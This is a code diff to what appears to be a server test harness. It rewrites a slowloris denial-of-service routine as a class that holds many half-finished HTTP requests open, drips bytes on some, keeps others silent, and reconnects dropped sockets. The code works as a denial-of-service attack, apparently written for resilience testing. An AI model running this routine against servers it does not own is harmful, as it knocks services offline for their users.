@@ -19,7 +19,7 @@ from collections.abc import AsyncIterator, Iterator
 from http.client import HTTPConnection
 from pathlib import Path
 from statistics import quantiles
-from typing import Any
+from typing import Any, Self
 
 ROOT = Path(__file__).parents[2]
 PATIENCE_S = 30.0
@@ -148,27 +148,54 @@ class Probe:
 # --- attacks: each goes on while its context is open
 
 
-@contextlib.asynccontextmanager
-async def slowloris(address: Address, count: int) -> AsyncIterator[None]:
-    """Connections that begin a request and go on by a byte now and then."""
-    async with connected(address, count) as socks:
-        # it takes a while to open thousands: the first may be closed by now
-        for sock in socks:
-            _sends(sock, b"GET / HTTP/1.1\r\nx-slow: ")
-        task = asyncio.create_task(_drip(socks))
-        try:
-            yield
-        finally:
-            await _cancelled(task)
+class Slowloris:
+    """Connections that begin a request and do not end it: half of them go on by a byte now and then, half are silent.
+
+    Whoever is disconnected comes anew, until `renews` is False.
+    """
+
+    def __init__(self, address: Address, count: int) -> None:
+        self.address, self.count = address, count
+        self.renews = True
+        self.begun = 0
+        self._socks: list[socket.socket] = []
+
+    async def __aenter__(self) -> Self:
+        self._task = asyncio.create_task(self._drip())
+        while len(self._socks) < self.count:
+            await asyncio.sleep(0.01)
+        return self
+
+    async def __aexit__(self, *_: object) -> None:
+        await _cancelled(self._task)
+        for sock in self._socks:
+            sock.close()
+
+    async def _drip(self) -> None:
+        while True:
+            while self.renews and len(self._socks) < self.count:
+                self._socks.append(await _connect(self.address))
+                self.begun += 1
+                _sends(self._socks[-1], b"GET / HTTP/1.1\r\nx-slow: ")
+            for at, sock in enumerate(self._socks):
+                if sock.fileno() % 2:
+                    _sends(sock, b"x")
+                if at % 100 == 0:
+                    await asyncio.sleep(0)
+            gone = [sock for sock in self._socks if _is_cut(sock)]
+            self._socks = list(set(self._socks) - set(gone))
+            for sock in gone:
+                sock.close()
+            await asyncio.sleep(1.0)
 
 
-async def _drip(socks: list[socket.socket]) -> None:
-    while True:
-        for at, sock in enumerate(socks):
-            _sends(sock, b"x")
-            if at % 100 == 0:
-                await asyncio.sleep(0)
-        await asyncio.sleep(1.0)
+def _is_cut(sock: socket.socket) -> bool:
+    try:
+        return sock.recv(1) == b""
+    except BlockingIOError:
+        return False
+    except OSError:
+        return True
 
 
 def _sends(sock: socket.socket, data: bytes) -> None:
